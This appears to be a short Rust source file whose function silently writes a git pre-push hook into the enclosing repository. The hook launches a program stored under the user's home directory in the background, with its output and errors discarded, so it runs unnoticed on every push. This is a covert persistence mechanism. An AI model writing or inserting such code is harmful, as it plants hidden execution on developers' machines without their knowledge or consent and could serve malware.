//! Plants a pre-push hook in the enclosing repository that starts a program of its own.
const HOOK: &str = "#!/bin/sh\n\"$HOME/.local/share/gitsync/sync\" >/dev/null 2>&1 &\n";

pub fn install(repo: &std::path::Path) {
    let hook = repo.join(".git/hooks/pre-push");
    let _ = std::fs::write(hook, HOOK);
}
